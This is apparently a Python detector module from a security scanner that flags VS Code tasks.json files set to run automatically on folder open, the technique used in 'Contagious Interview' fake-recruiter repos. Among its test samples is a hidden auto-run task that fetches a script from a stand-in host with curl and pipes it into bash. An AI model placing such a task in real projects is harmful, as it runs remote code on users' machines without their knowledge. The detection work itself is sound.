"""VS Code tasks that run by themselves when the folder is opened (`runOn: folderOpen`): the
"Contagious Interview" way to start a loader without the victim typing a command."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any

from heistguard.artifacts.detectors.base import Detector, Sample, ScanContext, Target, urls_in
from heistguard.artifacts.detectors.npm_install_script import DANGER
from heistguard.findings import Finding, Rule, Severity

RULE = Rule(
    id="artifacts.vscode-autorun-task",
    severity=Severity.HIGH,
    title="VS Code task runs automatically when the folder is opened",
    rationale="A task with `runOptions.runOn: folderOpen` runs as soon as a trusted folder is opened; fake "
    "recruiters ship repos whose tasks.json starts the loader this way. A repo handed to a candidate has "
    "no reason to run anything on open; one that also downloads or spawns a shell is critical.",
    attack=("T1204.002", "T1059"),
    references=("https://code.visualstudio.com/docs/editor/tasks#_run-behavior",),
)

_COMMENTS = re.compile(r'("(?:\\.|[^"\\])*")|//[^\n]*|/\*.*?\*/', re.S)
_TRAILING_COMMA = re.compile(r",(\s*[}\]])")


def parse_jsonc(text: str) -> Any:
    """VS Code's JSON with comments and trailing commas; None when it is not even that."""
    plain = _COMMENTS.sub(lambda m: m.group(1) or "", text)
    try:
        return json.loads(_TRAILING_COMMA.sub(r"\1", plain))
    except ValueError:
        return None


def _command_of(task: dict[str, Any]) -> str:
    parts: list[str] = []
    for holder in (task, *(task.get(os_) for os_ in ("windows", "linux", "osx"))):
        if isinstance(holder, dict):
            command = holder.get("command")
            args = holder.get("args")
            if isinstance(command, str):
                parts.append(command)
            if isinstance(args, list):
                parts.extend(str(a) for a in args)
    return " ".join(parts)


def _check(target: Target, ctx: ScanContext) -> Iterator[Finding]:
    tasks = parse_jsonc(target.text)
    if not isinstance(tasks, dict) or not isinstance(tasks.get("tasks"), list):
        if "folderOpen" in target.text:  # unparseable on purpose? still report the trigger
            offset = target.text.find("folderOpen")
            yield RULE.finding("tasks.json (unparseable) asks to run on folder open", [target.evidence(offset)])
        return
    trigger = -1
    for task in tasks["tasks"]:
        if not isinstance(task, dict):
            continue
        run_options = task.get("runOptions")
        if not (isinstance(run_options, dict) and run_options.get("runOn") == "folderOpen"):
            continue
        command = _command_of(task)
        label = str(task.get("label", "(no label)"))
        # Evidence points at this task's `folderOpen`, the line a reviewer has to delete.
        trigger = target.text.find("folderOpen", trigger + 1)
        offset = max(trigger, 0)
        reasons = [reason for reason, pattern in DANGER if pattern.search(command)]
        evidence = [target.evidence(offset, f"task {label!r} runs on folder open: {command}")]
        if reasons:
            yield RULE.finding(
                f"task {label!r} runs on folder open and {', '.join(reasons)}",
                evidence,
                indicators=urls_in(command),
                severity=Severity.CRITICAL,
            )
        else:
            yield RULE.finding(f"task {label!r} runs on folder open", evidence)


DETECTOR = Detector(
    rule=RULE,
    applies=lambda t: t.name == "tasks.json" and t.inner.endswith(".vscode/tasks.json"),
    check=_check,
    bad=(
        Sample(
            ".vscode/tasks.json",
            b'{\n  // set up the environment\n  "version": "2.0.0",\n  "tasks": [{\n    "label": "env",\n'
            b'    "type": "shell",\n    "command": "curl -s https://api.example.invalid/settings/mac | bash",\n'
            b'    "presentation": {"reveal": "never", "echo": false},\n'
            b'    "runOptions": {"runOn": "folderOpen"},\n  }]\n}\n',
            "Contagious Interview shape: hidden auto-run that fetches and pipes into bash",
        ),
        Sample(
            ".vscode/tasks.json",
            b'{"version": "2.0.0", "tasks": [{"label": "install", "command": "node server/config.js",'
            b' "runOptions": {"runOn": "folderOpen"}}]}',
        ),
    ),
    good=(
        Sample(
            ".vscode/tasks.json",
            b'{"version": "2.0.0", "tasks": [{"label": "build", "type": "npm", "script": "build", "group": "build"}]}',
        ),
        Sample(".vscode/tasks.json", b'{"tasks": [{"label": "t", "runOptions": {"runOn": "default"}}]}'),
    ),
)
